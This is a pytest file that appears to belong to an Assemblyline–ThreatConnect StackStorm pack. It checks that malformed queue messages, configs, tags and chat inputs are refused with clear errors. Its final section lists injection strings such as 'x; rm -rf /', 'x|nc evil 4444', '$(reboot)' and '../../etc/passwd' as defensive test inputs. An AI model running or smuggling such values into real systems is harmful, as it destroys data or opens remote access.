"""Bad input, table-driven: every case gets a clear error naming the problem, never a traceback.

Queue messages of every wrong shape (the sensor's entry point), AL results with odd
tags and files (the mapping's), configs with wrong types and secrets (the config's),
and action parameters of wrong types or out of range (the actions' edge).
"""
import copy
import json
import math
import os

import jsonschema
import pytest
import yaml

from lib.config import load_config, to_json_schema
from lib.errors import ConfigError, InputError
from lib.indicators import build_indicators
from lib.notifications import MalformedMessage, trigger_for
from tests.helpers import SECRETS, pack_config

PACK_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
with open(os.path.join(PACK_DIR, "sensors", "notification_sensor.yaml"), encoding="utf-8") as _handle:
    SCHEMAS = {"assemblyline_threatconnect." + t["name"]: t["payload_schema"]
               for t in yaml.safe_load(_handle)["trigger_types"]}

MESSAGE = {"ingest_id": "4aBcDeFgHiJkLmNoPqRsTu", "score": 1200, "failure": "", "extended_scan": "skipped",
           "ingest_time": "2026-11-22T10:00:00.000000Z", "notify_time": "2026-11-22T10:05:00.000000Z",
           "submission": {"sid": "4aBcDeFgHiJkLmNoPqRsTu", "files": [{"name": "a.exe", "sha256": "a" * 64,
                                                                       "size": 10}],
                          "metadata": {"file_path": "/q/a.exe", "ingest_id": "4aBcDeFgHiJkLmNoPqRsTu"}}}


def mutated(path, value):
    message = copy.deepcopy(MESSAGE)
    target = message
    for key in path[:-1]:
        target = target[key]
    if value is DELETE:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return message


DELETE = object()
WRONG_VALUES = [None, True, 0, -1, 1.5, float("nan"), float("inf"), 10 ** 400, "", " ", "x" * 100000,
                "ünïcødé ☃", [], [1], {}, {"a": 1}]
MESSAGE_CASES = (
    [("not an object", v) for v in (None, "text", 42, [], [MESSAGE], b"bytes")]
    + [(("submission",), v) for v in (DELETE, None, "x", [], 1)]
    + [(("score",), v) for v in WRONG_VALUES + [DELETE]]
    + [(("failure",), v) for v in (None, 0, [], {}, "Skipped", "x" * 100000, "ünïcødé")]
    + [(("submission", "sid"), v) for v in (DELETE, None, "", 5, [], {})]
    + [(("ingest_id",), v) for v in (DELETE, None, "", 5, [])]
    + [(("submission", "files"), v) for v in (None, "nope", 5, [None], ["x"], [{"name": 5}],
                                              [{"size": "big"}], [{}] * 1000)]
    + [(("submission", "metadata"), v) for v in (None, "x", [], {"k": {"nested": 1}},
                                                 {"k{}".format(i): "v" for i in range(500)},
                                                 {"big": "m" * 2000000}, {"☃": "ünï"})]
    + [(("ingest_time",), v) for v in (None, 5, [], "not a date")]
)


@pytest.mark.parametrize("path, value", MESSAGE_CASES, ids=[str(i) for i in range(len(MESSAGE_CASES))])
def test_every_queue_message_is_a_valid_payload_or_a_named_refusal(path, value):
    message = value if path == "not an object" else mutated(path, value)
    try:
        trigger, payload = trigger_for(message)
    except MalformedMessage as problem:
        assert str(problem) and len(str(problem)) < 300  # names the problem, short
        return
    jsonschema.Draft4Validator(to_json_schema(SCHEMAS[trigger])).validate(payload)  # st2 would take it
    assert len(json.dumps(payload)) < 1000000  # bounded, whatever came in
    if "score" in payload:
        assert isinstance(payload["score"], int) and not isinstance(payload["score"], bool)


# -- configs --------------------------------------------------------------------------

CONFIG_CASES = [
    ({"assemblyline": {"url": 5}}, "assemblyline.url"),
    ({"assemblyline": {"url": "ftp://al.example.org"}}, "assemblyline.url"),
    ({"assemblyline": {"timeout": "30"}}, "assemblyline.timeout"),
    ({"assemblyline": {"timeout": -1}}, "assemblyline.timeout"),
    ({"assemblyline": {"retries": 0}}, "assemblyline.retries"),
    ({"assemblyline": {"verify_tls": "yes"}}, "assemblyline.verify_tls"),
    ({"assemblyline": {"poll_interval": 1}}, "assemblyline.poll_interval"),
    ({"assemblyline": {"page_size": 0}}, "assemblyline.page_size"),
    ({"assemblyline": {"notification_queue": "Bad Queue"}}, "assemblyline.notification_queue"),
    ({"assemblyline": {"user": ""}}, "assemblyline.user"),
    ({"assemblyline": {"api_key": 12345}}, "assemblyline.api_key"),
    ({"assemblyline": {"proxies": "http://proxy"}}, "assemblyline.proxies"),
    ({"assemblyline": {"completion_deadline": 0}}, "assemblyline.completion_deadline"),
    ({"assemblyline": {"colour": "blue"}}, "assemblyline.colour"),
    ({"threatconnect": {"api_url": "not a url"}}, "threatconnect.api_url"),
    ({"threatconnect": {"owner": ""}}, "threatconnect.owner"),
    ({"threatconnect": {"owner": 7}}, "threatconnect.owner"),
    ({"threatconnect": {"default_rating": 6}}, "threatconnect.default_rating"),
    ({"threatconnect": {"default_confidence": 101}}, "threatconnect.default_confidence"),
    ({"threatconnect": {"batch_max_items": 25001}}, "threatconnect.batch_max_items"),
    ({"threatconnect": {"batch_max_bytes": "2MB"}}, "threatconnect.batch_max_bytes"),
    ({"threatconnect": {"attribute_write_type": "Sometimes"}}, "threatconnect.attribute_write_type"),
    ({"threatconnect": {"halt_on_error": "no"}}, "threatconnect.halt_on_error"),
    ({"threatconnect": {"poll_timeout": -5}}, "threatconnect.poll_timeout"),
    ({"threatconnect": {"api_token": "t0k3n-s3cret"}}, "threatconnect"),  # both auth modes
    ({"ingest": {"allowed_roots": "/var/quarantine"}}, "ingest.allowed_roots"),
    ({"ingest": {"allowed_roots": [5]}}, "ingest.allowed_roots"),
    ({"ingest": {"max_file_size": 0}}, "ingest.max_file_size"),
    ({"ingest": {"concurrency": 0}}, "ingest.concurrency"),
    ({"ingest": {"follow_symlinks": "true"}}, "ingest.follow_symlinks"),
    ({"ingest": {"allow_hardlinks": 1}}, "ingest.allow_hardlinks"),
    ({"mapping": {"min_h_type": "evil"}}, "mapping.min_h_type"),
    ({"mapping": {"rating_table": "high"}}, "mapping.rating_table"),
    ({"mapping": {"classification_labels": {"TLP:A": 5}}}, "mapping.classification_labels"),
    ({"mapping": {"group_type": "Folder"}}, "mapping.group_type"),
    ({"mapping": {"max_indicators_per_submission": 0}}, "mapping.max_indicators_per_submission"),
    ({"mapping": {"map_mutexes": "on"}}, "mapping.map_mutexes"),
    ({"mapping": {"detail_attributes": {"network.port": 5}}}, "mapping.detail_attributes"),
    ({"mapping": {"send_permissive_labels": "yes"}}, "mapping.send_permissive_labels"),
    ({"surprise": {}}, "surprise"),
]


@pytest.mark.parametrize("override, key", CONFIG_CASES, ids=[c[1] + str(i) for i, c in enumerate(CONFIG_CASES)])
def test_a_bad_config_names_the_key_and_never_a_secret(override, key):
    raw = pack_config()
    for section, values in override.items():
        raw[section] = dict(raw.get(section, {}), **values)
    with pytest.raises(ConfigError) as caught:
        config = load_config(raw)
        build_indicators({"sid": "x", "tags": [], "files": [], "submitted_at": "2026-11-22T10:00:00Z"},
                         config)  # mapping checks run here
    text = str(caught.value)
    assert key in text
    for secret in SECRETS + ("t0k3n-s3cret",):
        assert secret not in text


def test_a_null_setting_takes_its_default_as_st2_does():
    raw = pack_config(mapping={"send_permissive_labels": None, "min_h_type": None})
    assert load_config(raw)["mapping"]["min_h_type"] == "suspicious"


@pytest.mark.parametrize("missing", ["url", "user", "api_key"])
def test_a_missing_assemblyline_setting_is_named(missing):
    raw = pack_config()
    del raw["assemblyline"][missing]
    with pytest.raises(ConfigError, match="assemblyline.{}".format(missing)):
        load_config(raw)


# -- AL results with odd tags and files -----------------------------------------------

ODD_TAGS = [None, "tag", 5, [], {}, {"type": None}, {"type": 5, "value": "x"},
            {"type": "network.static.domain"}, {"type": "network.static.domain", "value": None},
            {"type": "network.static.domain", "value": 5, "h_type": "malicious"},
            {"type": "network.static.domain", "value": "evil.example.com", "h_type": None},
            {"type": "network.static.domain", "value": "evil.example.com", "h_type": "extreme"},
            {"type": "network.static.domain", "value": "x" * 100000, "h_type": "malicious"},
            {"type": "network.static.uri", "value": "http://☃.example/\x00", "h_type": "malicious"},
            {"type": "network.static.ip", "value": "999.1.1.1", "h_type": "malicious"},
            {"type": "attribution.family", "value": "", "h_type": "malicious"},
            {"type": "attribution.family", "value": ["EMOTET"], "h_type": "malicious"},
            {"type": "dynamic.registry_key", "value": "\x01\x02", "h_type": "malicious"},
            {"type": "network.static.domain", "value": "evil.example.com", "h_type": "malicious",
             "sha256s": "not-a-list"},
            {"type": "network.static.domain", "value": "evil.example.com", "h_type": "malicious",
             "classification": ["TLP:A"]}]


@pytest.mark.parametrize("odd", ODD_TAGS, ids=[str(i) for i in range(len(ODD_TAGS))])
def test_odd_tags_are_counted_or_listed_never_raised(odd):
    conf = load_config(pack_config(mapping={"map_registry_keys": True}))
    results = {"sid": "4aBcDeFgHiJkLmNoPqRsTu", "state": "completed", "max_score": 1000, "files": [],
               "submitted_at": "2026-11-22T10:00:00Z",
               "tags": [odd, {"group": "ioc", "type": "network.static.domain", "value": "good.example.com",
                              "h_type": "malicious", "safelisted": False, "sha256s": []}]}
    built = build_indicators(results, conf)
    assert "good.example.com" in [i["summary"] for i in built.indicators]
    json.dumps(built.to_dict())  # plain JSON, whatever came in
    for entry in built.rejected:
        assert entry["reason"] and len(entry["value"]) < 2000


@pytest.mark.parametrize("results, message", [
    (None, "results"), ("text", "results"), ({"tags": "x", "sid": "s"}, "tags"), ({"sid": None}, "sid"),
    ({"sid": "s", "tags": [], "files": "x"}, "files"), ({"sid": "s", "tags": [], "max_score": math.nan}, "max_score"),
])
def test_a_results_document_of_the_wrong_shape_is_refused_by_name(results, message):
    with pytest.raises(InputError, match=message):
        build_indicators(results, load_config(pack_config()))


# -- chatops strings with injection attempts: parsed literally, refused by name -----------

INJECTIONS = ["$(reboot)", "`id`", "x; rm -rf /", "x && curl evil", "x|nc evil 4444", "../../etc/passwd",
              "x\nINJECTED", "{{ st2kv.system.secret }}", "<script>alert(1)</script>", "%00", "x' OR '1'='1",
              "a" * 65, "\u202egnp.exe"]


@pytest.mark.parametrize("value", INJECTIONS)
def test_an_injected_sid_from_chat_is_refused_before_any_request(value):
    from lib.al_results import check_sid
    with pytest.raises(InputError, match="sid must be an Assemblyline submission ID"):
        check_sid(value)


@pytest.mark.parametrize("value", INJECTIONS[:6] + ["/q/a.exe; rm -rf /", "/q/$(reboot)"])
def test_an_injected_path_from_chat_is_only_ever_a_path(tmp_path, value):
    from lib.errors import UnsafePathError
    from lib.file_selection import FilePolicy, open_checked
    root = tmp_path / "q"
    root.mkdir()
    policy = FilePolicy(allowed_roots=(str(root),), max_file_size=1024)
    with pytest.raises(UnsafePathError) as refused:
        open_checked(value.replace("/q/", str(root) + "/"), policy)
    assert refused.value.reason  # "no such file", "must be absolute", "outside the allowed roots" ...
